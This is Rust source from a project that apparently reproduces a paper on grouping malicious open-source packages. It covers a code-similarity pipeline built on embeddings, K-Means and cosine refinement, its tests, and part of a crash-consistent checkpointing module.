            &SimilarityConfig {
                threshold: 0.5,
                ..SimilarityConfig::default()
            },
        );
        let strict = similar_pairs(
            &entries,
            &SimilarityConfig {
                threshold: 0.95,
                ..SimilarityConfig::default()
            },
        );
        assert!(strict.pairs.len() <= loose.pairs.len());
    }

    #[test]
    fn paper_config_uses_3072_dims() {
        let c = SimilarityConfig::paper();
        assert_eq!(c.dim, 3072);
        assert_eq!(c.growth, 1.0);
    }

    /// Asserts two pipeline outputs are bitwise-identical (the inertia
    /// trace compares by f32 bits, not approximate equality).
    fn assert_outputs_identical(a: &SimilarityOutput, b: &SimilarityOutput, label: &str) {
        assert_eq!(a.pairs, b.pairs, "{label}: pairs diverged");
        assert_eq!(a.chosen_k, b.chosen_k, "{label}: chosen_k diverged");
        assert_eq!(a.trace.len(), b.trace.len(), "{label}: trace length diverged");
        for (x, y) in a.trace.iter().zip(&b.trace) {
            assert_eq!(x.0, y.0, "{label}: trace k diverged");
            assert_eq!(x.1.to_bits(), y.1.to_bits(), "{label}: trace inertia bits diverged");
        }
    }

    #[test]
    fn cached_pipeline_is_bitwise_identical_to_plain() {
        // The corpus has duplicate code (mutation fires with p=0.5), so
        // the collapsed refinement genuinely takes the grouped path.
        let data = corpus(4, 8, 9);
        let mut entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let broken: PackageId = "pypi/broken@1.0.0".parse().unwrap();
        entries.push((broken, "this is not ( valid code"));
        for kernel in [Kernel::DenseScalar, Kernel::TiledQuantized] {
            for threads in [1, 3] {
                let config = SimilarityConfig {
                    kernel,
                    threads,
                    ..SimilarityConfig::default()
                };
                let label = format!("{kernel:?}/{threads}t");
                let plain = similar_pairs(&entries, &config);
                let mut cache = SimilarityCache::new();
                let cold = similar_pairs_cached(&entries, &config, &mut cache);
                assert_outputs_identical(&plain, &cold, &format!("{label} cold"));
                assert_eq!(cache.len(), entries.len(), "{label}: memo must cover all entries");
                let warm = similar_pairs_cached(&entries, &config, &mut cache);
                assert_outputs_identical(&plain, &warm, &format!("{label} warm"));
            }
        }
    }

    #[test]
    fn cache_carries_across_growing_corpora() {
        // Windowed growth: run the cached pipeline on a prefix, then on
        // the full list with the same cache — the second run must match
        // the plain pipeline over the full list exactly, embedding only
        // the suffix.
        let data = corpus(3, 6, 10);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let config = SimilarityConfig::default();
        let mut cache = SimilarityCache::new();
        let prefix = &entries[..entries.len() / 2];
        let prefix_plain = similar_pairs(prefix, &config);
        let prefix_cached = similar_pairs_cached(prefix, &config, &mut cache);
        assert_outputs_identical(&prefix_plain, &prefix_cached, "prefix");
        assert_eq!(cache.len(), prefix.len());
        let full_plain = similar_pairs(&entries, &config);
        let full_cached = similar_pairs_cached(&entries, &config, &mut cache);
        assert_outputs_identical(&full_plain, &full_cached, "grown");
        assert_eq!(cache.len(), entries.len());
    }

    #[test]
    fn interned_vids_collapse_exact_duplicates_only() {
        let data = corpus(2, 6, 11);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let config = SimilarityConfig::default();
        let mut cache = SimilarityCache::new();
        let _ = similar_pairs_cached(&entries, &config, &mut cache);
        // Independent re-embedding: two entries share a vid exactly when
        // their embeddings are bitwise equal.
        let (vectors, owners) = embed_entries(&entries, &config);
        assert!(cache.reps.len() <= vectors.len());
        for (a, &ia) in owners.iter().enumerate() {
            for (b, &ib) in owners.iter().enumerate().skip(a + 1) {
                let va = cache.embedded[&entries[ia].0].expect("parseable");
                let vb = cache.embedded[&entries[ib].0].expect("parseable");
                assert_eq!(
                    va == vb,
                    content_equal(&vectors[a], &vectors[b]),
                    "vid assignment wrong for {ia},{ib}"
                );
            }
        }
    }

    #[test]
    fn republished_sources_are_never_reparsed() {
        let data = corpus(3, 6, 12);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let config = SimilarityConfig::default();
        let mut cache = SimilarityCache::new();
        let _ = similar_pairs_cached(&entries, &config, &mut cache);
        let reps_before = cache.reps.len();
        // A flood republishes every artifact byte-identically under
        // fresh names: the grown corpus must reproduce the plain
        // pipeline exactly while embedding nothing new — every verdict
        // is served by the source interner, so the distinct-content
        // table cannot grow.
        let mut grown: Vec<(PackageId, &str)> = entries.clone();
        for (i, (_, code)) in entries.iter().enumerate() {
            let id: PackageId = format!("pypi/republished-{i}@1.0.0").parse().unwrap();
            grown.push((id, code));
        }
        let plain = similar_pairs(&grown, &config);
        let cached = similar_pairs_cached(&grown, &config, &mut cache);
        assert_outputs_identical(&plain, &cached, "republished flood");
        assert_eq!(cache.reps.len(), reps_before, "no new distinct content");
        assert_eq!(cache.len(), grown.len(), "every clone memoised by id");
        // Same-window duplicates (two fresh ids, one source) must also
        // collapse to a single embedding.
        let novel = corpus(1, 1, 99);
        let twin_a: PackageId = "pypi/twin-a@1.0.0".parse().unwrap();
        let twin_b: PackageId = "pypi/twin-b@1.0.0".parse().unwrap();
        grown.push((twin_a.clone(), novel[0].1.as_str()));
        grown.push((twin_b.clone(), novel[0].1.as_str()));
        let plain = similar_pairs(&grown, &config);
        let cached = similar_pairs_cached(&grown, &config, &mut cache);
        assert_outputs_identical(&plain, &cached, "in-window twins");
        assert_eq!(cache.embedded[&twin_a], cache.embedded[&twin_b]);
    }
}
