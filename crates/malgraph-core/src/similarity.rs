//! The similar-edge pipeline: source code → AST → embedding → K-Means →
//! cosine-refined similar pairs (paper §III-A).
//!
//! # Determinism contract
//!
//! [`similar_pairs`] is deterministic for a given input and config, on
//! any machine, at any worker count:
//!
//! * the K-Means engine guarantees bitwise-identical clusterings at any
//!   thread count (fixed chunk boundaries, in-index-order merging — see
//!   `cluster`'s crate docs);
//! * every fan-out here keys its partial results by input index
//!   (embedding chunks, refinement clusters) and merges them in that
//!   index order, never in completion order.
//!
//! Future parallelism must keep both properties: work may be *scheduled*
//! freely, but results must be *combined* in an order derived from the
//! input alone.

use cluster::{kmeans_points, kmeans_warm_points, KMeansConfig, Kernel, Points};
use embed::{EmbedBuffer, Embedder, SparseEmbedding};
use oss_types::PackageId;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// Tuning knobs for the similarity pipeline.
#[derive(Debug, Clone)]
pub struct SimilarityConfig {
    /// Embedding dimensionality. The paper uses 3072
    /// (`text-embedding-3-large`); the default is 1024, which the
    /// dimension ablation bench shows recovers the same groups at a
    /// fraction of the cost (below ~512, hash collisions inflate
    /// cross-lineage similarity and groups start to merge).
    pub dim: usize,
    /// Minimum cosine similarity for a similar edge *within* a K-Means
    /// cluster. K-Means alone assigns every point somewhere; the paper
    /// handles the resulting false positives by manual inspection
    /// (§III-C) — this threshold is the automated stand-in.
    pub threshold: f32,
    /// Relative inertia improvement below which the grow-k schedule
    /// stops ("centroids of newly formed clusters do not change").
    pub min_improvement: f32,
    /// Upper bound on k.
    pub max_k: usize,
    /// Geometric growth factor of the k schedule. `1.0` reproduces the
    /// paper's k → k+1 schedule; the default 1.3 is the documented
    /// speed-up for large corpora (same stopping rule).
    pub growth: f64,
    /// RNG seed for k-means++ initialization.
    pub seed: u64,
    /// Worker threads for the embed, assignment and refinement fan-outs;
    /// `0` means `available_parallelism`. Any value yields identical
    /// output (see the module-level determinism contract).
    pub threads: usize,
    /// Assignment/refinement kernel. Every [`Kernel`] produces
    /// bitwise-identical output; the default enables the cache-tiled
    /// sparse kernels with the certified i8 screen.
    pub kernel: Kernel,
}

impl Default for SimilarityConfig {
    fn default() -> Self {
        SimilarityConfig {
            dim: 1024,
            threshold: 0.92,
            min_improvement: 0.10,
            max_k: 256,
            growth: 1.3,
            seed: 0x51,
            threads: 0,
            kernel: Kernel::default(),
        }
    }
}

impl SimilarityConfig {
    /// The paper's exact configuration: 3072 dimensions, k growing by 1.
    pub fn paper() -> Self {
        SimilarityConfig {
            dim: embed::PAPER_DIM,
            growth: 1.0,
            ..SimilarityConfig::default()
        }
    }
}

/// Output of the pipeline: similar pairs plus diagnostics.
#[derive(Debug, Clone)]
pub struct SimilarityOutput {
    /// Unordered similar pairs (indices into the input slice).
    pub pairs: Vec<(usize, usize)>,
    /// The k selected by the schedule.
    pub chosen_k: usize,
    /// `(k, inertia)` trace of the schedule, for the ablation bench.
    pub trace: Vec<(usize, f32)>,
}

/// Resolves a configured worker count (`0` = `available_parallelism`),
/// never exceeding the number of work items.
fn resolve_threads(requested: usize, items: usize) -> usize {
    let threads = if requested == 0 {
        std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1)
    } else {
        requested
    };
    threads.clamp(1, items.max(1))
}

/// Runs the pipeline over `(package, code)` entries belonging to one
/// ecosystem. Unparseable code is skipped (it can never join a group,
/// exactly like a package the Packj extractor chokes on).
pub fn similar_pairs(
    entries: &[(PackageId, &str)],
    config: &SimilarityConfig,
) -> SimilarityOutput {
    // 1. Parse + embed — embarrassingly parallel, fanned out across
    // cores with crossbeam scoped threads. Each worker reuses one
    // `EmbedBuffer` across its whole chunk (no per-module `dim`-sized
    // allocation) and emits *sparse* embeddings — a feature-hashed
    // module touches a few hundred of `dim` buckets, so the batch costs
    // O(features) memory per module instead of O(dim).
    let phase = obs::span!("similarity/embed");
    obs::counter_add("similarity.entries", entries.len() as u64);
    let embedder = Embedder::new(config.dim);
    let threads = resolve_threads(config.threads, entries.len());
    let chunk_size = entries.len().div_ceil(threads.max(1)).max(1);
    let embedded: Vec<(usize, SparseEmbedding)> = crossbeam::thread::scope(|scope| {
        let mut handles = Vec::new();
        for (c, chunk) in entries.chunks(chunk_size).enumerate() {
            let embedder = &embedder;
            handles.push(scope.spawn(move |_| {
                let base = c * chunk_size;
                let mut buf = EmbedBuffer::new();
                let mut out = Vec::with_capacity(chunk.len());
                for (j, (_, code)) in chunk.iter().enumerate() {
                    if let Ok(module) = minilang::parse(code) {
                        out.push((base + j, embedder.embed_sparse_into(&module, &mut buf)));
                    }
                }
                out
            }));
        }
        let mut all = Vec::with_capacity(entries.len());
        for handle in handles {
            all.extend(handle.join().expect("embed worker must not panic"));
        }
        all
    })
    .expect("crossbeam scope");
    let mut vectors: Vec<SparseEmbedding> = Vec::with_capacity(embedded.len());
    let mut owners: Vec<usize> = Vec::with_capacity(embedded.len());
    for (owner, vector) in embedded {
        vectors.push(vector);
        owners.push(owner);
    }
    obs::counter_add("similarity.parse_failures", (entries.len() - vectors.len()) as u64);
    drop(phase);
    if vectors.len() < 2 {
        return SimilarityOutput {
            pairs: Vec::new(),
            chosen_k: 0,
            trace: Vec::new(),
        };
    }
    // One `Points` build per call: dense SoA matrix + CSR view + (lazy)
    // quantized companion, shared by every K-Means run of the schedule
    // and by the refinement screen.
    let rows: Vec<(&[u32], &[f32])> = vectors
        .iter()
        .map(|v| (v.indices(), v.values()))
        .collect();
    let points = Points::from_sparse_rows(config.dim, &rows);

    // 2. Grow-k K-Means (paper §III-A: start at 3, grow until stable).
    // Each step warm-starts from the previous step's centroids and
    // k-means++-seeds only the `next_k - k` new ones, so the schedule
    // pays incremental refinement instead of a full re-convergence at
    // every k.
    let phase = obs::span!("similarity/schedule");
    let mut rng = StdRng::seed_from_u64(config.seed);
    let kconfig = KMeansConfig {
        threads: config.threads,
        kernel: config.kernel,
        ..KMeansConfig::default()
    };
    let mut k = 3usize.min(points.n());
    let mut best = kmeans_points(&points, k, &kconfig, &mut rng);
    let mut trace = vec![(k, best.inertia)];
    let max_k = config.max_k.min(points.n());
    while k < max_k {
        let next_k = (((k as f64) * config.growth) as usize).max(k + 1).min(max_k);
        let next = kmeans_warm_points(&points, &best.centroids, next_k - k, &kconfig, &mut rng);
        trace.push((next_k, next.inertia));
        let improvement = if best.inertia <= f32::EPSILON {
            0.0
        } else {
            (best.inertia - next.inertia) / best.inertia
        };
        if improvement < config.min_improvement {
            break;
        }
        best = next;
        k = next_k;
    }
    obs::counter_add("similarity.schedule_steps", trace.len() as u64);
    drop(phase);

    // 3. Cosine-refined pairs within each cluster. The big clusters
    // (floods) dominate this O(|c|²) step. Workers are bounded by
    // the configured thread count (not one thread per cluster) and
    // clusters are distributed largest-first onto the least-loaded
    // worker, so one flood cluster cannot serialize the tail. Embedder
    // outputs are L2-normalized, so the similarity is a single sparse
    // dot product — and with the quantized kernel, most pairs never pay
    // even that: the certified i8 upper bound proves them `< threshold`
    // first (survivors are rescored exactly, so the pair set is bitwise
    // identical — see `cluster::matrix`). The screen is only sound for
    // `threshold > -1`: at `threshold ≤ -1` the exact path's clamp to
    // `-1` could lift a provably-small dot back over the threshold.
    // Determinism: each worker tags its output with the cluster index and
    // the merge flattens in cluster-index order, so the pair list does
    // not depend on the worker count or scheduling.
    let phase = obs::span!("similarity/refine");
    let clusters = best.clusters();
    let quant = (config.kernel == Kernel::TiledQuantized && config.threshold > -1.0)
        .then(|| points.quant());
    let threads = resolve_threads(config.threads, clusters.len());
    let mut order: Vec<usize> = (0..clusters.len()).collect();
    order.sort_by_key(|&c| std::cmp::Reverse(clusters[c].len()));
    let mut buckets: Vec<Vec<usize>> = vec![Vec::new(); threads];
    let mut loads: Vec<u64> = vec![0; threads];
    for c in order {
        let w = (0..threads).min_by_key(|&w| loads[w]).expect("threads >= 1");
        let size = clusters[c].len() as u64;
        loads[w] += size * size.saturating_sub(1) / 2;
        buckets[w].push(c);
    }
    // Pair lists a worker produces, tagged with their cluster index,
    // plus the worker's screen tallies.
    type TaggedPairs = (Vec<(usize, Vec<(usize, usize)>)>, u64, u64);
    let mut by_cluster: Vec<Vec<(usize, usize)>> = vec![Vec::new(); clusters.len()];
    let refined: Vec<TaggedPairs> = crossbeam::thread::scope(|scope| {
        let handles: Vec<_> = buckets
            .iter()
            .map(|bucket| {
                let clusters = &clusters;
                let points = &points;
                let owners = &owners;
                scope.spawn(move |_| {
                    let threshold = f64::from(config.threshold);
                    let (matrix, sparse) = (points.matrix(), points.sparse());
                    let mut pruned = 0u64;
                    let mut rescored = 0u64;
                    let tagged = bucket
                        .iter()
                        .map(|&c| {
                            let members = &clusters[c];
                            let mut local = Vec::new();
                            for a in 0..members.len() {
                                for b in (a + 1)..members.len() {
                                    let (ia, ib) = (members[a], members[b]);
                                    if let Some(q) = quant {
                                        if q.pair_upper_bound(ia, q, ib) < threshold {
                                            pruned += 1;
                                            continue;
                                        }
                                    }
                                    rescored += 1;
                                    // Gather-based sparse·dense dot: same
                                    // bits as the dense dot (zero-skip
                                    // lemma, see `cluster::matrix`), no
                                    // branchy merge walk. The dense-scalar
                                    // kernel keeps the pre-kernel dense
                                    // path as the benchmark baseline.
                                    let dot = match config.kernel {
                                        Kernel::DenseScalar => cluster::matrix::dense_dot(
                                            matrix.row(ia),
                                            matrix.row(ib),
                                        ),
                                        _ => {
                                            let (si, sv) = sparse.row(ia);
                                            cluster::matrix::sparse_dot_dense(
                                                si,
                                                sv,
                                                matrix.row(ib),
                                            )
                                        }
                                    };
                                    if dot.clamp(-1.0, 1.0) >= config.threshold {
                                        local.push((owners[ia], owners[ib]));
                                    }
                                }
                            }
                            (c, local)
                        })
                        .collect();
                    (tagged, pruned, rescored)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("refine worker must not panic"))
            .collect()
    })
    .expect("crossbeam scope");
    let mut pruned_total = 0u64;
    let mut rescored_total = 0u64;
    for (tagged, pruned, rescored) in refined {
        pruned_total += pruned;
        rescored_total += rescored;
        for (c, local) in tagged {
            by_cluster[c] = local;
        }
    }
    let pairs: Vec<(usize, usize)> = by_cluster.into_iter().flatten().collect();
    obs::counter_add("similarity.pairs", pairs.len() as u64);
    obs::counter_add("kernel.pruned_quantized", pruned_total);
    obs::counter_add("kernel.rescored", rescored_total);
    drop(phase);
    SimilarityOutput {
        pairs,
        chosen_k: best.k(),
        trace,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, mutate, Behavior, Mutation};
    use minilang::printer::print_module;
    use rand::Rng;

    /// Builds `families` code families with `per` members each.
    fn corpus(families: usize, per: usize, seed: u64) -> Vec<(PackageId, String)> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut out = Vec::new();
        for f in 0..families {
            let behavior = Behavior::ALL[f % Behavior::ALL.len()];
            let base = generate(behavior, &mut rng);
            let mut current = base;
            for m in 0..per {
                if m > 0 && rng.gen_bool(0.5) {
                    let mutation = Mutation::ALL[m % Mutation::ALL.len()];
                    current = mutate(&current, mutation, &mut rng);
                }
                let id: PackageId = format!("pypi/fam{f}-pkg{m}@1.0.0").parse().unwrap();
                out.push((id, print_module(&current)));
            }
        }
        out
    }

    fn components(n: usize, pairs: &[(usize, usize)]) -> Vec<Vec<usize>> {
        let mut uf = graphstore::unionfind::UnionFind::new(n);
        for &(a, b) in pairs {
            uf.union(a, b);
        }
        let mut map: std::collections::BTreeMap<usize, Vec<usize>> = Default::default();
        for i in 0..n {
            map.entry(uf.find(i)).or_default().push(i);
        }
        map.into_values().filter(|c| c.len() > 1).collect()
    }

    #[test]
    fn recovers_code_families() {
        let data = corpus(4, 8, 1);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(id, c)| (id.clone(), c.as_str())).collect();
        let out = similar_pairs(&entries, &SimilarityConfig::default());
        let comps = components(entries.len(), &out.pairs);
        // Family members must never be split across groups in a way that
        // merges two behaviours: check purity by index range.
        for comp in &comps {
            let family = comp[0] / 8;
            assert!(
                comp.iter().all(|&i| i / 8 == family),
                "component mixes families: {comp:?}"
            );
        }
        // And most family pairs should be recovered.
        let recovered: usize = comps.iter().map(|c| c.len()).sum();
        assert!(
            recovered >= entries.len() / 2,
            "too few grouped: {recovered}/{}",
            entries.len()
        );
    }

    #[test]
    fn unparseable_code_is_skipped_silently() {
        let id: PackageId = "pypi/broken@1.0.0".parse().unwrap();
        let good = corpus(1, 3, 2);
        let mut entries: Vec<(PackageId, &str)> =
            good.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        entries.push((id, "this is not ( valid code"));
        let out = similar_pairs(&entries, &SimilarityConfig::default());
        let broken_idx = entries.len() - 1;
        assert!(
            out.pairs.iter().all(|&(a, b)| a != broken_idx && b != broken_idx),
            "broken code must not join any group"
        );
    }

    #[test]
    fn empty_and_singleton_inputs() {
        let empty: Vec<(PackageId, &str)> = Vec::new();
        assert!(similar_pairs(&empty, &SimilarityConfig::default()).pairs.is_empty());
        let one = corpus(1, 1, 3);
        let entries: Vec<(PackageId, &str)> =
            one.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        assert!(similar_pairs(&entries, &SimilarityConfig::default()).pairs.is_empty());
    }

    #[test]
    fn pipeline_is_deterministic() {
        let data = corpus(3, 5, 4);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let a = similar_pairs(&entries, &SimilarityConfig::default());
        let b = similar_pairs(&entries, &SimilarityConfig::default());
        assert_eq!(a.pairs, b.pairs);
        assert_eq!(a.chosen_k, b.chosen_k);
    }

    #[test]
    fn higher_threshold_never_adds_pairs() {
        let data = corpus(3, 6, 5);
        let entries: Vec<(PackageId, &str)> =
            data.iter().map(|(i, c)| (i.clone(), c.as_str())).collect();
        let loose = similar_pairs(
            &entries,
            &SimilarityConfig {
                threshold: 0.5,
                ..SimilarityConfig::default()
            },
        );
        let strict = similar_pairs(
            &entries,
            &SimilarityConfig {
                threshold: 0.95,
                ..SimilarityConfig::default()
            },
        );
        assert!(strict.pairs.len() <= loose.pairs.len());
    }

    #[test]
    fn paper_config_uses_3072_dims() {
        let c = SimilarityConfig::paper();
        assert_eq!(c.dim, 3072);
        assert_eq!(c.growth, 1.0);
    }
}
