//! Crash-consistent checkpointing of a windowed ingest run (ISSUE 10).
//!
//! The paper's pipeline runs for months (§II); a reproduction at that
//! scale must survive process death mid-run. This module makes the
//! incremental path ([`MalGraph::apply_delta`]) resumable with a **byte
//! identity** guarantee: a run killed at *any* registered crash point
//! and resumed from its checkpoint directory finishes with a graph,
//! diagnostics and analysis output bitwise-identical to an uninterrupted
//! run.
//!
//! # On-disk layout
//!
//! ```text
//! DIR/
//!   RUN.json                  run stamp: seed / scale / window count
//!   gen-000003.json           generation snapshot after 3 windows
//!   gen-000004.json           (the last `keep` generations are retained)
//!   journal/
//!     window-000000.json      write-ahead journal, one file per delta
//!     window-000001.json      (journals are never pruned)
//! ```
//!
//! Every file is a **sealed envelope** (`jsonio::durable`): a one-line
//! header carrying a format tag, the body's SHA-256 and its byte length,
//! followed by the body. Writes go through `write_atomic` (temp +
//! `fsync` + rename + directory `fsync`), so a torn write can only ever
//! leave a stale temp sibling; truncation and bit flips of a published
//! file are caught by the length and checksum on read.
//!
//! # What a generation snapshot holds
//!
//! The union corpus (full fidelity, via the crawler's manifest format)
//! plus each ecosystem's last [`SimilarityOutput`] and entry-list
//! length. The graph itself is *not* stored: node and edge emission are
//! deterministic functions of the corpus and are re-emitted through the
//! very same `build` stage helpers in milliseconds. What makes resume
//! fast is skipping the similarity stage — the persisted outputs are
//! applied directly, exactly like the ingest memo's reuse path. The
//! `f32` schedule traces are stored as raw bit patterns so the
//! round-trip is exact, not close, and the (at full scale, millions of)
//! similar pairs are encoded as one flat `"a,b a,b …"` string per
//! ecosystem in a compact-rendered body — see `snapshot_body` for why
//! the obvious nested-array encoding is not merely slower but
//! allocation-bound.
//!
//! # The fallback ladder
//!
//! [`recover`] degrades gracefully: newest generation → older
//! generation → write-ahead journal replay → full rebuild from nothing,
//! counting every step in `recovery.*` counters under `recover/*`
//! spans. A checkpoint that fails its checksum is *discarded*, never
//! trusted partially.
//!
//! # Crash points
//!
//! [`CRASH_POINTS`] names every stage boundary of the checkpointed
//! driver ([`run_checkpointed_ingest`]); a seeded or CLI-supplied
//! [`CrashPlan`] turns one occurrence of one point into a simulated
//! abort with no cleanup. The crash matrix in
//! `crates/bench/tests/crash_recovery.rs` sweeps every point and
//! asserts the identity contract cell by cell.

use crate::build::{self, BuildOptions, MalGraph};
use crate::ingest::{EcoState, IngestState};
use crate::similarity::{SimilarityCache, SimilarityOutput};
use crawler::{CollectedDataset, CorpusDelta, ExportFidelity};
use jsonio::durable::{self, SealError};
use oss_types::{CrashPlan, CrashSignal, Ecosystem, Sha256};
use std::fmt;
use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Format tag of generation snapshot files.
const GENERATION_TAG: &str = "malgraph-checkpoint/1";
/// Format tag of write-ahead journal entries.
const JOURNAL_TAG: &str = "malgraph-journal/1";
/// Format tag of the run stamp.
const RUN_TAG: &str = "malgraph-run/1";

/// Every crash point the checkpointed driver registers, in firing
/// order. One ingest run fires each of these at least once per window
/// (the `similar/publish` point once per recomputed ecosystem); the
/// crash matrix sweeps all of them.
pub const CRASH_POINTS: &[&str] = &[
    // The boundary between the merged per-source crawl and ingestion.
    "collect/merge",
    // Write-ahead journal entry durable, delta not yet applied.
    "ingest/journal",
    // The five build stages, re-emitted per delta.
    "build/nodes",
    "build/duplicated",
    "build/dependency",
    "similar/publish",
    "build/similar",
    "build/coexisting",
    // Delta fully applied in memory, not yet checkpointed.
    "ingest/apply",
    // Immediately before the generation snapshot write ...
    "checkpoint/write",
    // ... and after it is durable, before old generations are pruned.
    "checkpoint/publish",
];

/// Why a checkpoint operation failed.
#[derive(Debug)]
pub enum CheckpointError {
    /// An I/O failure reading or writing the checkpoint directory.
    Io(io::Error),
    /// An envelope failed framing validation (truncated, wrong tag).
    Seal(SealError),
    /// An envelope's body does not match its declared checksum — a bit
    /// flip or other corruption inside a fully-framed file.
    ChecksumMismatch {
        /// Checksum the header declared.
        declared: String,
        /// Checksum recomputed over the body.
        actual: String,
    },
    /// The body parsed but violates the snapshot schema.
    Malformed(String),
}

impl fmt::Display for CheckpointError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CheckpointError::Io(e) => write!(f, "checkpoint I/O error: {e}"),
            CheckpointError::Seal(e) => write!(f, "checkpoint envelope error: {e}"),
            CheckpointError::ChecksumMismatch { declared, actual } => write!(
                f,
                "checkpoint checksum mismatch: header declares {declared}, body hashes to {actual}"
            ),
            CheckpointError::Malformed(m) => write!(f, "malformed checkpoint: {m}"),
        }
    }
}

impl std::error::Error for CheckpointError {}

impl From<io::Error> for CheckpointError {
    fn from(e: io::Error) -> CheckpointError {
        CheckpointError::Io(e)
    }
}

impl From<SealError> for CheckpointError {
    fn from(e: SealError) -> CheckpointError {
        CheckpointError::Seal(e)
    }
}

/// Why a checkpointed ingest run stopped.
#[derive(Debug)]
pub enum IngestRunError {
    /// A simulated crash fired; the in-memory graph/state are torn and
    /// must be discarded. The checkpoint directory is the survivor.
    Crashed(CrashSignal),
    /// A real checkpoint-store failure.
    Store(CheckpointError),
}

impl fmt::Display for IngestRunError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            IngestRunError::Crashed(s) => write!(f, "{s}"),
            IngestRunError::Store(e) => write!(f, "{e}"),
        }
    }
}

impl std::error::Error for IngestRunError {}

/// Identity of one checkpointed run: resuming under a different seed,
/// scale or window plan would splice two different corpora together, so
/// the CLI refuses a stamp mismatch. The scale factor is stored as raw
/// `f64` bits for an exact comparison.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RunStamp {
    /// World seed of the run.
    pub seed: u64,
    /// World scale factor, as `f64::to_bits`.
    pub scale_bits: u64,
    /// Number of windows in the ingestion plan.
    pub windows: usize,
}

impl RunStamp {
    /// A stamp from the run's parameters.
    pub fn new(seed: u64, scale: f64, windows: usize) -> RunStamp {
        RunStamp {
            seed,
            scale_bits: scale.to_bits(),
            windows,
        }
    }

    /// The scale factor back as an `f64`.
    pub fn scale(&self) -> f64 {
        f64::from_bits(self.scale_bits)
    }
}

/// A checkpoint directory: generations, the write-ahead journal and the
/// run stamp. See the module docs for the layout.
#[derive(Debug)]
pub struct CheckpointStore {
    dir: PathBuf,
}

/// A parsed generation snapshot: the union corpus plus the
/// per-ecosystem similarity memos as of `windows_applied` deltas.
/// Everything else about the graph is a deterministic function of this
/// (the write side serialises directly from [`IngestState`] — see
/// `snapshot_body`).
#[derive(Debug)]
pub struct Snapshot {
    /// Number of deltas folded in when the snapshot was taken.
    pub windows_applied: usize,
    /// The union corpus.
    pub dataset: CollectedDataset,
    /// `(ecosystem, entries_len, output)` of every ecosystem whose
    /// similarity pipeline has run.
    pub similarity: Vec<(Ecosystem, usize, SimilarityOutput)>,
}

fn seal_body(path: &Path, tag: &str, body: &str) -> Result<(), CheckpointError> {
    let checksum = Sha256::digest(body.as_bytes()).to_string();
    durable::write_sealed(path, tag, &checksum, body)?;
    Ok(())
}

/// Reads a sealed file, validating framing *and* the body checksum.
/// `Ok(None)` means the file does not exist — the caller's "nothing
/// there yet" case, distinct from every corruption error.
fn open_body(path: &Path, tag: &str) -> Result<Option<String>, CheckpointError> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(CheckpointError::Io(e)),
    };
    let sealed = durable::open_sealed(&text, tag)?;
    let actual = Sha256::digest(sealed.body.as_bytes()).to_string();
    if actual != sealed.checksum {
        return Err(CheckpointError::ChecksumMismatch {
            declared: sealed.checksum,
            actual,
        });
    }
    Ok(Some(sealed.body))
}

/// Parses the zero-padded number out of `gen-NNNNNN.json` /
/// `window-NNNNNN.json` file names.
fn numbered_file(name: &str, prefix: &str) -> Option<usize> {
    name.strip_prefix(prefix)?
        .strip_suffix(".json")?
        .parse()
        .ok()
}

impl CheckpointStore {
    /// Opens (creating if needed) a checkpoint directory.
    ///
    /// # Errors
    ///
    /// Propagates directory-creation failures.
    pub fn open(dir: &Path) -> Result<CheckpointStore, CheckpointError> {
        std::fs::create_dir_all(dir.join("journal"))?;
        Ok(CheckpointStore {
            dir: dir.to_path_buf(),
        })
    }

    /// The directory this store lives in.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn generation_path(&self, windows: usize) -> PathBuf {
        self.dir.join(format!("gen-{windows:06}.json"))
    }

    fn journal_path(&self, window: usize) -> PathBuf {
        self.dir.join("journal").join(format!("window-{window:06}.json"))
    }

    /// Reads the run stamp, if one has been written.
    ///
    /// # Errors
    ///
    /// Corruption errors, exactly like a generation read.
    pub fn run_stamp(&self) -> Result<Option<RunStamp>, CheckpointError> {
        let Some(body) = open_body(&self.dir.join("RUN.json"), RUN_TAG)? else {
            return Ok(None);
        };
        let root = jsonio::Value::parse(&body)
            .map_err(|e| CheckpointError::Malformed(format!("run stamp: {e}")))?;
        let field = |key: &str| -> Result<u64, CheckpointError> {
            root.get(key)
                .and_then(|v| v.as_u64())
                .ok_or_else(|| CheckpointError::Malformed(format!("run stamp: bad field {key:?}")))
        };
        Ok(Some(RunStamp {
            seed: field("seed")?,
            scale_bits: field("scale_bits")?,
            windows: field("windows")? as usize,
        }))
    }

    /// Writes the run stamp (atomically, like everything else).
    ///
    /// # Errors
    ///
    /// Propagates write failures.
    pub fn write_run_stamp(&self, stamp: &RunStamp) -> Result<(), CheckpointError> {
        let body = jsonio::object! {
            "seed": stamp.seed,
            "scale_bits": stamp.scale_bits,
            "windows": stamp.windows,
        }
        .to_pretty();
        seal_body(&self.dir.join("RUN.json"), RUN_TAG, &body)
    }

    /// Appends one delta to the write-ahead journal. Idempotent: a
    /// resumed run re-journaling a window it already journaled simply
    /// rewrites the same bytes.
    ///
    /// # Errors
    ///
    /// Propagates write failures.
    pub fn append_journal(&self, delta: &CorpusDelta) -> Result<(), CheckpointError> {
        seal_body(
            &self.journal_path(delta.window),
            JOURNAL_TAG,
            &crawler::delta_value(delta).to_compact(),
        )
    }
